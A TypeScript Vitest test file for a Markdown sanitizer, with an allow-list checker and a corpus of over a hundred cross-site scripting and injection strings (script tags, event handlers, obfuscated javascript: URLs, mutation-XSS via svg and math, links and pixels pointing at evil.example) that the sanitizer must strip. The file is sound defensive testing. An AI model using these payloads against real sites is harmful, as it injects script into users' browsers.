import type { ElementContent, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { contentText } from './content-text.ts';
import { parseBody } from './parse-body.ts';
import { toHtml } from './to-html.ts';

const elements = new Set(
  `a abbr b bdi bdo blockquote br cite code dd dfn div dl dt em figcaption figure h3 h4 h5 h6 hr i kbd li mark ol p
  pre rp rt ruby s samp section small span strong sub sup table tbody td th thead time tr u ul var`.split(/\s+/),
);
const classes =
  /^(image|image-placeholder|image-missing|image-inline|table-scroll|html-source|footnotes|footnote-ref|footnote-back|align-(left|center|right))$/;
const properties: Record<string, (value: unknown) => boolean> = {
  href: (value) => typeof value === 'string' && /^(https?:\/\/[^@]+$|mailto:|#fn(ref)?-\d)/.test(value),
  rel: (value) => String(value) === 'nofollow,noopener,noreferrer,external',
  id: (value) => typeof value === 'string' && /^(p\d+|fn-\d+|fnref-\d+(-\d+)?)$/.test(value),
  className: (value) => Array.isArray(value) && value.every((name) => classes.test(String(name))),
  lang: (value) => /^[A-Za-z0-9-]*$/.test(String(value)),
  dir: (value) => ['ltr', 'rtl', 'auto'].includes(String(value)),
  tabIndex: (value) => value === 0,
  role: (value) => value === 'group' || value === 'img',
  ariaLabel: (value) => /^(Footnotes|Image|Back to the text|Table \d+(: .+)?)$/.test(String(value)),
  colSpan: (value) => Number(value) <= 1000,
  rowSpan: (value) => Number(value) <= 1000,
  start: (value) => Number.isInteger(value),
  value: (value) => Number.isInteger(Number(value)),
  dateTime: (value) => /^[0-9TZ:.+-]+$/.test(String(value)),
};

/** What must not be there, found in the tree that an HTML parser makes of the output. */
function violations(html: string): string[] {
  const source = { type: 'root', children: [{ type: 'raw', value: html }] } as unknown as Root;
  const tree = unified().use(rehypeRaw).runSync(source);
  const found: string[] = [];
  const walk = (nodes: Root['children']): void => {
    for (const node of nodes) {
      if (node.type !== 'text' && node.type !== 'element') found.push(node.type);
      if (node.type !== 'element') continue;
      if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        if (properties[name]?.(value) !== true) found.push(`${node.tagName} ${name}=${JSON.stringify(value)}`);
      }
      walk(node.children);
    }
  };
  walk(tree.children);
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1]);
  if (new Set(ids).size !== ids.length) found.push('an id stands twice');
  return found;
}

const corpus = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n\nx>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<script>unclosed',
  'a <script> b *c*\n\nd',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
  '<picture><source srcset="https://evil.example/a"><img src=x></picture>',
  '<image src=x onerror=alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<java&#10;script:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https:evil.example)',
  '[x](http://user:pass@evil.example/)',
  '[x](view-source:https://a.example)',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '![x]\n\n[x]: javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="https://a.example" onclick=alert(1) target=_blank ping=//evil.example download>x</a>',
  '<a href="#p1" id="p1" name="p1">x</a>',
  '<p id=p1 class=site-header style="background:url(https://evil.example)" title=x accesskey=a tabindex=5>x</p>',
  '<div style="position:fixed;inset:0">over</div>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a <iframe srcdoc="x"> b',
  '<object data="//evil.example"></object>',
  '<embed src="//evil.example">',
  '<applet code=x></applet>',
  '<video src=//evil.example onerror=alert(1)><track src=//evil.example></video>',
  '<audio src=//evil.example autoplay>',
  '<frameset onload=alert(1)><frame src=//evil.example></frameset>',
  '<body onload=alert(1) background=//evil.example>',
  '<html manifest=//evil.example><head><title>x</title></head>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<select><option><script>alert(1)</script></option></select>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!-- unclosed <img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo "<script>" ?><img src=x onerror=alert(1)>',
  '<!doctype html><script>alert(1)</script>',
  '<p "x><script>alert(1)</script>">',
  '<p title="unclosed',
  '<p title=">"><img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background=//evil.example><tr><td background=//evil.example colspan=99999999>x</td></tr></table>',
  '<table><script>alert(1)</script><tr><td>x</table>',
  '<x-element onclick=alert(1)>x</x-element>',
  '<p is=x-element slot=x part=y nonce=z itemid=//evil.example>x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<ol start="99999999999999999999"><li value=javascript:1>x</li></ol>',
  '<time datetime="<script>">x</time>',
  '<p lang="<x>" dir=evil>x</p>',
  '<sup data-variorum-note="1"><a href=#>x</a></sup> <ol data-variorum-notes=1><li>x</li></ol>',
  '<pre><code data-variorum-html>x</code></pre>',
  '<p class="footnote-ref" id=fn-1>x</p> y[^1]\n\n[^1]: n',
  '```"><script>alert(1)</script>\ncode\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n| a | b |',
  '![<script>](x "<img src=x onerror=alert(1)>")',
  '[^"><script>]\n\n[^"><script>]: x',
  '\u0000<script\u0000>alert(1)</script>',
  '<a\u0000 href="java\u0000script:alert(1)">x</a>',
  '<a href="https://a.example"><a href="https://b.example">x</a></a>',
  '[a [b](https://b.example) <a href="https://c.example">c</a>](https://a.example)',
  '<b><i><u></b></i></u><p><b></p>x',
  '</p></div></main></body></html><script>alert(1)</script>',
];

describe('sanitizing', () => {
  it.each(corpus.map((markdown) => [JSON.stringify(markdown), markdown]))(
    'leaves nothing unsafe of %s',
    (_name, markdown) => {
      const { blocks, html } = parseBody(markdown);
      expect(violations(html)).toEqual([]);
      for (const block of blocks) {
        expect(violations(asFragment(block.content))).toEqual([]);
        expect(block.text).toBe(contentText(block.content));
      }
    },
  );

  it('is checked by a test that sees what is unsafe', () => {
    const unsafe = '<img src=x><a href="javascript:1">x</a><p onclick=x style=y id=q class=z></p><svg></svg>';
    expect(violations(unsafe)).toHaveLength(8);
  });

  it('loses no text around what it drops', () => {
    const { blocks } = parseBody(
      'before <script>x</script> after\n\n<p>one<iframe src=y></iframe>two</p>\n\nlast <plaintext> *end*',
    );
    expect(blocks.map(({ kind, text }) => [kind, text])).toEqual([
      ['paragraph', 'before <script>x</script> after'],
      ['paragraph', 'one'],
      ['html', '<iframe src=y></iframe>'],
      ['paragraph', 'two'],
      ['paragraph', 'last <plaintext> end'],
    ]);
  });
});

/** Cells of a row stand where cells may stand. */
function asFragment(content: ElementContent[]): string {
  const html = toHtml(content);
  return /^<t[dh]\b/.test(html) ? `<table><tbody><tr>${html}</tr></tbody></table>` : html;
}
